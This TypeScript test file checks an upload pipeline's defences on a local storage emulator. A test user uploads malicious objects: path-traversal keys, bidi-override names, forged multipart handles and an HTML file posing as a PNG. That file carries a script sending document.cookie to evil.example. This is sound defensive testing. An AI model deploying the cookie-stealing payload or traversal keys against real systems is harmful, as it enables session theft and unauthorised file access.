/**
 * Issue 22's review, replayed on the local stack as `npm start` runs it (the functions behind the FC adapter, the OSS
 * and STS emulators granting exactly what `npm run policies` prints, upload-completed invoked for every new object
 * with FC's retries, events written URL-encoded, a quarantine): what a grant cannot bound is judged when it lands and,
 * where the rules say so, removed; and a multipart grant bounds what it was declared for. Mallory holds STS
 * credentials for her folder and writes with any key and header OSS accepts (`raw-oss.ts`: ali-oss would resolve `..`).
 */
import { startDevStack, type DevStack } from '../../local/dev-stack';
import { samplePng } from '../../local/sample-files';
import type { MultipartStarted, StsTokenAnswer } from '../../shared/contract';
import { buildOssEvent } from '../../shared/edge/oss-event';
import { registerAnswer } from '../support/log-capture';
import { callFunction, devToken, monthFolder } from '../support/local-stack-client';
import { rawOssRequest } from '../support/raw-oss';

let stack: DevStack;
let mallory: StsTokenAnswer;
beforeAll(async () => {
  stack = await startDevStack({
    port: 0,
    ossPort: 0,
    stsPort: 0,
    encodeEventKeys: true,
    asyncRetryDelaysMs: [50, 100, 200],
    env: { QUARANTINE_PREFIX: 'quarantine/' },
  });
  mallory = (await callFunction(stack, 'sts-token', await devToken(stack, 'mallory'))).answer as unknown as StsTokenAnswer;
}, 60_000);
afterAll(() => stack.close());

const html = Buffer.from('<!doctype html><html><script>document.location="https://evil.example/?"+document.cookie</script></html>');

/** What mallory's STS credentials can do: any key inside her folder, any header OSS takes. */
const stsPut = (key: string, body: Buffer, headers: Record<string, string> = { 'content-type': 'image/png' }) =>
  rawOssRequest({
    endpoint: stack.oss!.url,
    bucket: stack.oss!.bucket,
    region: 'cn-hangzhou',
    credentials: mallory,
    method: 'PUT',
    key,
    headers,
    body,
  });

async function judged(): Promise<void> {
  await new Promise((resolve) => setTimeout(resolve, 50));
  await stack.invokers.get('upload-completed')!.idle();
}
const verdictOf = (key: string): string | undefined => stack.webhookReceiver!.verdicts().find((verdict) => verdict.key === key)?.verdict;
const messageOf = (key: string) => stack.webhookReceiver!.verdicts().find((verdict) => verdict.key === key)?.message;

describe('keys upload-completed could not address are judged and removed', () => {
  test.each([
    ['a dot segment', 'x/../evil.png'],
    ['a leading dot segment', './evil.png'],
    ['control characters', 'a\u0001b\u007f.png'],
    ['a line separator and a bidi override', 'in\u2028voice\u202egnp.png'],
    ['%, + and non-ASCII', 'p%41+q é中😀.png'],
  ])('%s: HTML declared image/png is gone, and the app is told ActiveContent', async (_name, suffix) => {
    const key = `${mallory.prefix}${suffix}`;
    expect((await stsPut(key, html)).status).toBe(200);
    await judged();
    expect(stack.oss!.getObject(key)).toBeUndefined();
    expect(verdictOf(key)).toBe('rejected: ActiveContent');
    // Quarantined, under exactly its key.
    expect(stack.oss!.getObject(`quarantine/${key}`)?.body.equals(html)).toBe(true);
  });

  test("users/mallory/sts/../../alice/…: mallory's object is judged and removed, alice's at the resolved key is untouched", async () => {
    const png = samplePng(700);
    const signed = (
      await callFunction(stack, 'sign-url', await devToken(stack, 'alice'), {
        filename: 'cat.png',
        contentType: 'image/png',
        size: png.length,
      })
    ).answer as { url: string; headers: Record<string, string>; key: string };
    expect((await fetch(signed.url, { method: 'PUT', headers: signed.headers, body: new Uint8Array(png) })).status).toBe(200);
    const key = `${mallory.prefix}../../alice/${signed.key.slice('users/alice/'.length)}`;
    expect((await stsPut(key, html)).status).toBe(200);
    await judged();
    expect(stack.oss!.getObject(key)).toBeUndefined();
    expect(messageOf(key)?.data).toMatchObject({ user: 'mallory', reason: 'ActiveContent' });
    expect(stack.oss!.getObject(signed.key)?.body.equals(png)).toBe(true);
    expect(verdictOf(signed.key)).toBe('verified');
  });

  test('a decoy at the encoded form of a key is not judged in its place', async () => {
    const decoy = `${mallory.prefix}a%20b.png`;
    const key = `${mallory.prefix}a b.png`;
    expect((await stsPut(decoy, samplePng(300))).status).toBe(200);
    await judged();
    expect(verdictOf(decoy)).toBe('verified');
    expect((await stsPut(key, html)).status).toBe(200);
    await judged();
    expect(stack.oss!.getObject(key)).toBeUndefined();
    expect(verdictOf(key)).toBe('rejected: ActiveContent');
    expect(stack.oss!.getObject(decoy)).toBeDefined();
  });
});

describe('objects that cannot be read or moved are removed all the same', () => {
  test('an Archive-class upload (GET refused): rejected UnreadableStorageClass, deleted, and the app told why it was not quarantined', async () => {
    const key = `${mallory.prefix}frozen.png`;
    expect((await stsPut(key, html, { 'content-type': 'image/png', 'x-oss-storage-class': 'Archive' })).status).toBe(200);
    await judged();
    expect(stack.oss!.getObject(key)).toBeUndefined();
    expect(messageOf(key)?.data).toMatchObject({ reason: 'UnreadableStorageClass', notQuarantined: 'UnreadableStorageClass' });
  });

  test('a key whose quarantine key would pass 1,023 bytes: deleted, and said', async () => {
    const key = `${mallory.prefix}${'k'.repeat(1023 - Buffer.byteLength(mallory.prefix) - 4)}.png`;
    expect(Buffer.byteLength(key)).toBe(1023);
    expect((await stsPut(key, html)).status).toBe(200);
    await judged();
    expect(stack.oss!.getObject(key)).toBeUndefined();
    expect(messageOf(key)?.data).toMatchObject({ reason: 'ActiveContent', notQuarantined: 'KeyTooLong' });
  });

  test('an object over the 1 GB CopyObject copies: deleted, and said', async () => {
    const key = `${mallory.prefix}huge.png`;
    // No gigabyte is sent: the emulator holds a lazily zeroed buffer, and the event is FC's, as OSS would send it.
    stack.oss!.seedObject({ key, body: Buffer.alloc(1024 ** 3 + 1), contentType: 'image/png', etag: '"0123456789ABCDEF0123456789ABCDEF"' });
    stack.invokers
      .get('upload-completed')!
      .invoke(
        buildOssEvent({ bucket: stack.oss!.bucket, key, size: 1024 ** 3 + 1, eTag: '0123456789ABCDEF0123456789ABCDEF', encodeKey: true }),
      );
    await judged();
    expect(stack.oss!.listKeys().some((stored) => stored.endsWith('huge.png'))).toBe(false);
    expect(messageOf(key)?.data).toMatchObject({ reason: 'TooLarge', notQuarantined: 'TooLargeToCopy' });
  });

  test('bytes of no known format declared application/pdf: ContentMismatch, removed', async () => {
    const key = `${mallory.prefix}report.pdf`;
    expect((await stsPut(key, Buffer.from('plain words, no %PDF signature'), { 'content-type': 'application/pdf' })).status).toBe(200);
    await judged();
    expect(stack.oss!.getObject(key)).toBeUndefined();
    expect(verdictOf(key)).toBe('rejected: ContentMismatch');
  });

  test('no event failed for good: nothing waits in the failure destination', () => {
    expect(stack.invokers.get('upload-completed')!.failed()).toEqual([]);
  });
});

describe('multipart grants bind their sizes', () => {
  const start = async (user: string, size: number): Promise<{ status: number; answer: MultipartStarted }> => {
    const { status, answer } = await callFunction(stack, 'sign-url', await devToken(stack, user), {
      method: 'MULTIPART',
      filename: 'film.png',
      contentType: 'image/png',
      size,
    });
    for (const part of (answer['parts'] as unknown[] | undefined) ?? []) registerAnswer(part);
    return { status, answer: answer as unknown as MultipartStarted };
  };

  test('an upload declared as 1 byte: its part URL refuses 16 MiB (or any other length), and PARTS signs no other part', async () => {
    const { answer: started } = await start('mallory', 1);
    const refused = await fetch(started.parts[0]!.url, { method: 'PUT', body: new Uint8Array(16 * 1024 * 1024) });
    expect(refused.status).toBe(403);
    const more = await callFunction(stack, 'sign-url', await devToken(stack, 'mallory'), {
      method: 'PARTS',
      key: started.key,
      uploadId: started.uploadId,
      partNumbers: [2],
    });
    expect([more.status, (more.answer['error'] as { code: string }).code]).toEqual([400, 'InvalidPartNumber']);
    // Raising the declared size in the handle does not help.
    const forged = await callFunction(stack, 'sign-url', await devToken(stack, 'mallory'), {
      method: 'PARTS',
      key: started.key,
      uploadId: started.uploadId.replace('.1.', '.167772160.'),
      partNumbers: [2],
    });
    expect(forged.status).toBe(403);
    expect(stack.oss!.listUploads().find((upload) => started.uploadId.startsWith(`${upload.uploadId}.`))?.partNumbers).toEqual([]);
  }, 30_000);

  test("a user's 11th unfinished upload is refused with 409 QuotaExceeded, STS uploads counted", async () => {
    const user = 'ursula';
    const answer = (await callFunction(stack, 'sts-token', await devToken(stack, user))).answer as unknown as StsTokenAnswer;
    // Two resumable uploads from a mobile SDK, never finished.
    for (const name of ['a.mp4', 'b.mp4']) {
      const initiated = await rawOssRequest({
        endpoint: stack.oss!.url,
        bucket: stack.oss!.bucket,
        region: 'cn-hangzhou',
        credentials: answer,
        method: 'POST',
        key: `${answer.prefix}${name}`,
        query: { uploads: null },
      });
      expect(initiated.status).toBe(200);
    }
    for (let i = 0; i < 8; i += 1) expect((await start(user, 100)).status).toBe(200);
    const refused = await start(user, 100);
    expect(refused.status).toBe(409);
    expect(refused.answer).toMatchObject({ error: { code: 'QuotaExceeded' } });
    expect(stack.oss!.listUploads().filter((upload) => upload.key.startsWith(monthFolder('users/ursula/')))).toHaveLength(8);
  });
});
